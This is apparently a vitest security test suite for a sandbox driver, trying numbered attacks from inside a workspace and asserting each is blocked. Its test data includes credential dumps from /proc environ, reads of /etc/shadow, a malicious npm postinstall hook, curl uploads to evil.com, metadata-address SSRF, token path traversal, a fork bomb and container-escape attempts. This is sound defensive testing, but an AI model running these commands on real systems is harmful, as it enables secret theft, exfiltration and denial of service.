/** What hostile code inside tries, for real, by the ids of the list of attacks. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../contract/helpers.test-support.ts";
import type { Workspace, WorkspaceDriver, WorkspaceNotice } from "../types.ts";
import { ensureGuest } from "./built-guest.test-support.ts";
import { CONTROL_GROUP_FOLDERS } from "./control-groups.ts";
import { createLocalDriver } from "./driver.ts";

ensureGuest();

let folder: string;
let driver: WorkspaceDriver;
let workspace: Workspace;
let hostService: Server;
let hostPort: number;
const notices: WorkspaceNotice[] = [];

const out = async (command: string, options = {}) => {
  const exit = await workspace.run(command, { quietMs: 20_000, ...options });
  return exit.output;
};
const SECRET = "sk-provider-key-of-the-server";

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "treadle-attacks-"));
  chmodSync(folder, 0o755);
  process.env.TREADLE_TEST_KEY = SECRET;
  hostService = createServer((_, response) => response.end("a service of the host"));
  hostService.listen(0, "0.0.0.0");
  await once(hostService, "listening");
  hostPort = (hostService.address() as AddressInfo).port;
  driver = createLocalDriver({
    cacheDirectory: join(folder, "cache"),
    env: { ...process.env, OPENAI_API_KEY: SECRET },
  });
  workspace = await driver.open({
    project: `attacks-${process.pid}`,
    directory: join(folder, "files"),
    stateDirectory: join(folder, "state"),
  });
  workspace.listen((notice) => notices.push(notice));
}, 60_000);

afterAll(async () => {
  delete process.env.TREADLE_TEST_KEY;
  await driver.close();
  hostService.close();
  rmSync(folder, { recursive: true, force: true });
});

describe("what can be read", () => {
  it("A33 no key of the server stands in any environment inside", async () => {
    const all = await out(
      "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' '\\n'",
    );
    expect(all).toContain("PATH=");
    expect(all).not.toContain(SECRET);
    expect(all).not.toContain("TREADLE_TEST_KEY");
    expect(all).not.toContain(process.env.HOME === "/" ? "\u0000" : `=${process.env.HOME}\n`);
  });

  it("no file of the host but /usr and a few of /etc is there", async () => {
    const seen = await out("ls -A / /etc /home /run /tmp 2>&1");
    for (const name of ["root", "work", "var", "srv", "shadow", "sudoers", "boot", "sys"])
      expect(seen.split(/\s+/)).not.toContain(name);
    expect(await out("cat /etc/shadow /root/.npmrc 2>&1; ls /proc/1/root/root 2>&1")).not.toMatch(
      /root:\$|registry/,
    );
  });

  it("another project's files are not there, by any path", async () => {
    const other = await driver.open({
      project: `other-${process.pid}`,
      directory: join(folder, "other"),
      stateDirectory: join(folder, "other-state"),
    });
    await other.files.write("private.txt", "the other's secret");
    const tried = await out(
      `cat ${folder}/other/private.txt ../other/private.txt /proc/1/root${folder}/other/private.txt /proc/*/cwd/private.txt 2>&1; grep -rs "the other's" /run /tmp /home | head`,
    );
    expect(tried).not.toContain("secret\n");
    expect(tried).not.toContain(": the other's");
    await other.stop();
  });

  it("the host's processes are not seen", async () => {
    expect(await out("ls /proc | grep -c '^[0-9]'")).toMatch(/^\d\n$/);
    expect(
      await out(`ls /proc/${process.pid}/environ 2>&1; kill -0 ${process.pid} 2>&1`),
    ).toContain("No such");
  });
});

describe("what can be written", () => {
  it("nothing outside the project and its own temporary folders", async () => {
    const tried = await out(
      "for f in /usr/x /etc/x /x /run/treadle/guest/guest.mjs /run/treadle/npm/package.json /run/treadle/node/bin/node /run/sbx/x /etc/passwd /proc/sys/kernel/hostname /proc/sysrq-trigger /dev/x; do (echo x >> $f) 2>/dev/null && echo WROTE $f; done; echo end",
    );
    expect(tried).toBe("end\n");
  });

  it("no mount, no namespace, no privilege can be had", async () => {
    const tried = await out(
      [
        "mount -t tmpfs x /mnt && echo GOT mount",
        "unshare -U true && echo GOT userns",
        "unshare -Urm true && echo GOT mountns",
        "unshare -n true && echo GOT netns",
        "chroot / true && echo GOT chroot",
        "sudo -n true && echo GOT sudo",
        "su -c true && echo GOT su",
        "bwrap --unshare-user --bind / / true && echo GOT bwrap",
        "mknod /tmp/disk b 254 0 && echo GOT mknod",
        "chown 0 . && echo GOT chown",
        "nsenter -t 1 -m true && echo GOT nsenter",
      ]
        .map((line) => `(${line}) 2>/dev/null`)
        .join("\n") + "\ngrep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status",
    );
    expect(tried).not.toContain("GOT");
    expect(tried).toMatch(/CapEff:\s0+\n/);
    expect(tried).toMatch(/NoNewPrivs:\s1\n/);
  });

  it("A34 a postinstall script touches only the sandbox", async () => {
    await workspace.files.write(
      "evil/package.json",
      JSON.stringify({
        name: "evil",
        version: "1.0.0",
        scripts: {
          postinstall: "echo pwned > /tmp/treadle-evil-host; echo pwned > ../escaped; id > ran.txt",
        },
      }),
    );
    await out("cd evil && npm install --foreground-scripts");
    expect(existsSync("/tmp/treadle-evil-host")).toBe(false);
    expect(readFileSync(join(folder, "files/evil/ran.txt"), "utf8")).toContain("uid=1000");
    expect(readFileSync(join(folder, "files/escaped"), "utf8")).toBe("pwned\n");
  });
});

describe("where it can connect to", () => {
  const program = (host: string, port: number) =>
    `node -e 'const s=require("net").connect({host:${JSON.stringify(host)},port:${port},timeout:2000});s.on("connect",()=>{console.log("CONNECTED");process.exit()});s.on("timeout",()=>{console.log("timeout");process.exit()});s.on("error",e=>{console.log(e.code);process.exit()})'`;

  it("A31 no service of the host: loopback, its own address, IPv6, by number or by name", async () => {
    const own = Object.values(networkInterfaces())
      .flat()
      .map((entry) => entry!.address);
    for (const host of ["127.0.0.1", "::1", "localhost", "0.0.0.0", "::ffff:127.0.0.1", ...own])
      expect([host, await out(program(host, hostPort))]).not.toEqual([host, "CONNECTED\n"]);
  });

  it("A31 no address outside, metadata and IPv6 among them, with the proxy's variables unset", async () => {
    for (const host of [
      "1.1.1.1",
      "169.254.169.254",
      "10.0.0.1",
      "2606:4700:4700::1111",
      "fe80::1",
    ]) {
      const tried = await out(
        `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NODE_USE_ENV_PROXY ${program(host, 80)}`,
      );
      expect(tried).toMatch(/ENETUNREACH|EHOSTUNREACH|EINVAL|EADDRNOTAVAIL/);
    }
  });

  it("A28 a name is not even looked up", async () => {
    expect(
      await out(`node -e 'require("dns").lookup("secret.evil.com",e=>console.log(e.code))'`),
    ).toMatch(/EAI_AGAIN|ENOTFOUND/);
    expect(
      await out(`node -e 'require("dns").resolve("secret.evil.com",e=>console.log(e.code))'`),
    ).toMatch(/ECONNREFUSED|ETIMEOUT|ENOTFOUND/);
  });

  it("A27 A29 what goes through the proxy is refused by name, and told", async () => {
    for (const host of [
      "evil.com",
      "registry.npmjs.org.evil.com",
      "evil-registry.npmjs.org",
      "169.254.169.254",
      "localhost",
    ])
      expect(
        await out(
          `curl -sS -m 5 https://${host}/ --noproxy '' 2>&1 | head -c 300; curl -sS -m 5 -d "$(cat package.json 2>/dev/null)" http://${host}/ --noproxy '' 2>&1 | head -c 300`,
        ),
      ).toMatch(/403|nothing else/);
    const told = notices.flatMap((notice) =>
      notice.type === "egress-refused" ? [notice.host] : [],
    );
    for (const host of ["evil.com", "registry.npmjs.org.evil.com", "169.254.169.254"])
      expect(told).toContain(host);
  });

  it("A16 through the proxy no other port than 443, and no address, whatever its spelling", async () => {
    for (const target of [
      "registry.npmjs.org:22",
      `127.0.0.1:${hostPort}`,
      "0x7f000001:443",
      "[::1]:443",
      "2130706433:443",
      "evil\\0.registry.npmjs.org:443",
    ]) {
      const tried = await out(
        `node -e 'const s=require("net").connect(4874,"127.0.0.1",()=>s.write("CONNECT ${target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));s.on("data",d=>{console.log(String(d).split("\\r\\n")[0]);process.exit()});s.on("close",()=>process.exit())'`,
      );
      expect([target, tried]).not.toEqual([target, expect.stringContaining("200")]);
    }
  });

  it("A16 a preview reaches neither way out of its sandbox", async () => {
    for (const port of [4873, 4874])
      await expect(workspace.connect(port)).rejects.toMatchObject({ code: "port" });
  });

  it("sockets of the host in the abstract namespace are another namespace's", async () => {
    const abstract = `\0treadle-test-${process.pid}`;
    const server = createServer((_, response) => response.end());
    server.listen(abstract);
    await once(server, "listening");
    expect(
      await out(
        `node -e 'const s=require("net").connect("\\0treadle-test-${process.pid}");s.on("connect",()=>console.log("CONNECTED"));s.on("error",e=>console.log(e.code))'`,
      ),
    ).not.toContain("CONNECTED");
    server.close();
  });
});

describe("the registry, with the host's login", () => {
  let upstream: Server;
  let own: Workspace;
  const asked: { url: string; login: string | undefined; method: string }[] = [];
  let ownDriver: WorkspaceDriver;
  const PATH = "/api/npm/private/";

  beforeAll(async () => {
    upstream = createServer((request, response) => {
      asked.push({
        url: request.url!,
        login: request.headers.authorization,
        method: request.method!,
      });
      response.setHeader("set-cookie", "a=b");
      response.end(JSON.stringify({ asked: request.url }));
    }).listen(0, "127.0.0.1");
    await once(upstream, "listening");
    const { port } = upstream.address() as AddressInfo;
    const home = join(folder, "npm-home");
    mkdirSync(home);
    writeFileSync(
      join(home, ".npmrc"),
      `registry=http://127.0.0.1:${port}${PATH}\n//127.0.0.1:${port}${PATH}:_authToken=\${MY_TOKEN}\n`,
    );
    ownDriver = createLocalDriver({
      cacheDirectory: join(folder, "cache-2"),
      env: { PATH: process.env.PATH, HOME: home, MY_TOKEN: "npm_the_login" },
    });
    own = await ownDriver.open({
      project: `registry-${process.pid}`,
      directory: join(folder, "registry"),
      stateDirectory: join(folder, "registry-state"),
    });
  }, 60_000);
  afterAll(async () => {
    await ownDriver.close();
    upstream.close();
  });
  const fetchInside = async (path: string, flags = "") =>
    (
      await own.run(
        `curl -sS -m 5 --path-as-is ${flags} "$(npm config get registry 2>/dev/null | sed 's#/api/.*##')${path}" 2>&1`,
      )
    ).output;

  it("adds the login to what is below the registry's path, and nothing of it is readable inside", async () => {
    expect(await fetchInside(`${PATH}react`)).toContain("asked");
    expect(asked.at(-1)).toMatchObject({ url: `${PATH}react`, login: "Bearer npm_the_login" });
    const all = (
      await own.run(
        "env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; cat ~/.npmrc .npmrc 2>/dev/null; npm config ls -l 2>/dev/null",
      )
    ).output;
    expect(all).not.toContain("npm_the_login");
  });

  it("tells nothing about the account, and takes the login to no other place of that host", async () => {
    const before = asked.length;
    for (const path of [
      `${PATH}-/whoami`,
      `${PATH}/-/whoami`,
      `${PATH}x/../-/npm/v1/tokens`,
      `${PATH}%2d/whoami`,
      `${PATH}x/..%2f..%2f..%2fuser`,
      "//evil.com/x",
    ])
      await fetchInside(path);
    await fetchInside("/api/v4/user");
    for (const { url, login } of asked.slice(before))
      expect([url, login]).toEqual([url, undefined]);
  });

  it("publishes nothing", async () => {
    const before = asked.length;
    for (const method of ["PUT", "POST", "DELETE", "PATCH"])
      expect(await fetchInside(`${PATH}react`, `-X ${method} -d '{}'`)).toContain("nothing else");
    expect(asked.length).toBe(before);
  });

  it("a request that makes no sense does not end the server", async () => {
    const { hostname, port } = new URL("http://127.0.0.1:4873");
    for (const line of [
      "GET http://127.0.0.1/x HTTP/1.1",
      "GET https://127.0.0.1/x HTTP/1.1",
      "GET ftp://127.0.0.1/x HTTP/1.1",
      "GET * HTTP/1.1",
      "GET //: HTTP/1.1",
      "GET /%ff%00 HTTP/1.1",
      "GARBAGE",
    ])
      await own.run(
        `node -e 'const s=require("net").connect(${port},"${hostname}",()=>s.end(${JSON.stringify(line)}+"\\r\\nHost: x\\r\\n\\r\\n"));s.resume();s.on("close",()=>process.exit());s.on("error",()=>process.exit())'`,
      );
    expect(await fetchInside(`${PATH}still-there`)).toContain("still-there");
  });
});

describe("what can be exhausted", () => {
  it("A37 a fork bomb meets a limit, and the server goes on answering", async () => {
    const bomb = workspace.run("bomb() { bomb | bomb & }; bomb; sleep 30", { timeoutMs: 1_500 });
    const started = performance.now();
    await new Promise((resolve) => setImmediate(resolve));
    expect(performance.now() - started).toBeLessThan(1_000);
    await bomb.catch(() => undefined);
    await eventually(
      async () => (await workspace.run("echo well").catch(() => undefined))?.output === "well\n",
    );
  });

  it("A37 a memory hog is ended, alone", async () => {
    const exit = await workspace.run(
      `node --max-old-space-size=100000 -e 'const all=[];for(;;)all.push(Buffer.alloc(1<<26,1))'`,
      { timeoutMs: 25_000 },
    );
    expect(exit.kind === "exited" && exit.code !== 0).toBe(true);
    expect((await workspace.run("echo well")).output).toBe("well\n");
  });

  it("A37 temporary folders are bounded", async () => {
    expect(
      await out("dd if=/dev/zero of=/tmp/fill bs=1M count=400 2>&1; rm -f /tmp/fill"),
    ).toContain("No space left");
    expect(
      await out("dd if=/dev/zero of=/home/user/fill bs=1M count=400 2>&1; rm -f /home/user/fill"),
    ).toContain("No space left");
  });

  it("thousands of connections to the host's sockets are not all taken", async () => {
    const answer = await out(
      `node -e 'const n=require("net");let open=0;for(let i=0;i<1500;i++){const s=n.connect("/run/sbx/stream.sock");s.on("connect",()=>open++);s.on("close",()=>open--);s.on("error",()=>{})}setTimeout(()=>{console.log(open);process.exit()},1500)'`,
    );
    expect(Number(answer)).toBeLessThanOrEqual(256);
  });

  it("a guest that generated code ends takes its sandbox with it, and the next call opens another", async () => {
    const lost = () => notices.filter((notice) => notice.type === "lost").length;
    const before = lost();
    // Both have the same user, so nothing in the sandbox can prevent it.
    await workspace.run("kill -9 $(pgrep -f guest.mjs | grep -vx 1)").catch(() => undefined);
    await eventually(() => lost() > before);
    expect((await workspace.run("echo anew")).output).toBe("anew\n");
  });
});

describe("what is left behind", () => {
  it("F8 a server that is killed leaves no process, and the next one starts clean", async () => {
    const script = join(folder, "server.mjs");
    const place = join(folder, "killed");
    const driverFile = fileURLToPath(new URL("./driver.ts", import.meta.url));
    writeFileSync(
      script,
      `import { createLocalDriver } from ${JSON.stringify(driverFile)};
const driver = createLocalDriver({ cacheDirectory: ${JSON.stringify(join(folder, "cache"))}, env: process.env });
const workspace = await driver.open({ project: "killed", directory: ${JSON.stringify(join(place, "files"))}, stateDirectory: ${JSON.stringify(join(place, "state"))} });
await workspace.files.write("a", "kept");
workspace.run("setsid sleep 8642 & sleep 8642", { onOutput() {} });
const end = performance.now() + 20000;
while (performance.now() < end) {
  const { output } = await workspace.run("pgrep -c sleep");
  if (Number(output) >= 2) { process.stdout.write("ready\\n"); break; }
}
`,
    );
    const child = spawn(process.execPath, ["--conditions=treadle-source", script], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    await once(child.stdout, "data");
    const running = () =>
      readdirSync("/proc").filter((pid) => {
        try {
          return (
            /^\d+$/.test(pid) &&
            readFileSync(`/proc/${pid}/cmdline`, "latin1") === "sleep\u00008642\u0000"
          );
        } catch {
          return false;
        }
      });
    expect(running().length).toBeGreaterThanOrEqual(2);
    child.kill("SIGKILL");
    await eventually(() => running().length === 0);
    const again = await driver.open({
      project: "killed",
      directory: join(place, "files"),
      stateDirectory: join(place, "state"),
    });
    expect(Buffer.from((await again.files.read("a")).bytes).toString()).toBe("kept");
    await again.stop();
  });

  it("stop leaves no mount, no process and no socket of it", async () => {
    const before = readdirSync(tmpdir()).filter((name) =>
      name.startsWith(`treadle-${process.pid}-`),
    );
    const groupsBefore = new Map(
      CONTROL_GROUP_FOLDERS.filter((path) => existsSync(path)).map((path) => [
        path,
        readdirSync(path).filter((name) => name.startsWith(`sandbox-${process.pid}-`)),
      ]),
    );
    const own = await driver.open({
      project: "left",
      directory: join(folder, "left"),
      stateDirectory: join(folder, "left-state"),
    });
    await own.run("(setsid sleep 8643 &) ; true");
    await own.stop();
    for (const groups of CONTROL_GROUP_FOLDERS.filter((path) => existsSync(path)))
      expect(
        readdirSync(groups).filter((name) => name.startsWith(`sandbox-${process.pid}-`)),
      ).toEqual(groupsBefore.get(groups) ?? []);
    expect(readFileSync("/proc/self/mountinfo", "utf8")).not.toContain("left");
    expect(
      readdirSync(tmpdir()).filter((name) => name.startsWith(`treadle-${process.pid}-`)),
    ).toEqual(before);
    await eventually(() =>
      readdirSync("/proc").every((pid) => {
        try {
          return readFileSync(`/proc/${pid}/cmdline`, "latin1") !== "sleep\u00008643\u0000";
        } catch {
          return true;
        }
      }),
    );
  });
});
